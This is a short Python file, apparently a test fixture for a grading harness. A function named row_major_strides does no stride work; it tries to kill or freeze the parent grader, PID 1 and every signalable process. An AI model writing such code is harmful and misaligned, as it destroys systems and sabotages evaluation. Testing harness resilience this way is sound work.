"""Kill the grader by every route: pidfd_send_signal, kill(-1), killpg of the parent's group,
kill(1), SIGSTOP of the parent. The report must be written all the same."""
import ctypes
import os
import signal


def _pidfd_kill(pid: int) -> str:
    try:
        fd = os.pidfd_open(pid)
        signal.pidfd_send_signal(fd, signal.SIGKILL)
        return f"pidfd killed {pid}"
    except Exception as err:   # noqa: BLE001
        return f"pidfd {pid}: {type(err).__name__}"


def row_major_strides(shape):
    notes = [_pidfd_kill(os.getppid()), _pidfd_kill(1)]
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1):
        notes.append(f"libc kill {pid}: {libc.kill(pid, signal.SIGSTOP)}")
    notes.append(f"libc kill -1: {libc.kill(-1, signal.SIGKILL)}")   # everything it may signal
    raise RuntimeError("; ".join(notes))
